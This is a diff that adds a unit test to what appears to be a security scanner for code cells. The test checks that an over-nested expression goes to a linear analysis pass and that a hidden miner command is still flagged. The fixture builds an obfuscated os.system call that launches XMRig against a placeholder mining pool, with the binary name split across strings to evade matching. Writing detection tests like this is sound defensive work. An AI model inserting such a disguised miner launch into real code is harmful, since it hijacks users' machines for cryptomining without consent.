@@ -291,3 +291,15 @@ def test_generated_hostile_cells_end_within_a_linear_bound(
     # the budget, plus what always runs (transform, parse, linear pass): ~10 µs a char
     assert took < 1.5 + 30e-6 * len(cell), (took, len(cell))
     assert all(f.rule != "analysis.error" for f in findings)
+
+
+def test_a_statement_nested_too_deep_for_libcst_is_read_by_the_linear_pass() -> None:
+    # libcst parses a 2,500-term `+` chain in ~1.5 s of native code the budget cannot
+    # stop (the cell was refused as a timeout); it goes to the linear pass instead
+    chain = " + ".join(["'a'"] * 2500)
+    benign = fresh().check(f"x = ({chain} + chr(97),)\n", budget=1.0)
+    assert {f.rule for f in benign} == {"analysis.incomplete"}
+    assert all(f.action == "log" for f in benign)
+    command = "'./xm' + 'rig -o stratum+tcp://pool.example.com:3333'"
+    hidden = f"import os\nos.system({command} + {chain})\n"
+    assert mined(fresh().check(hidden, budget=1.0))
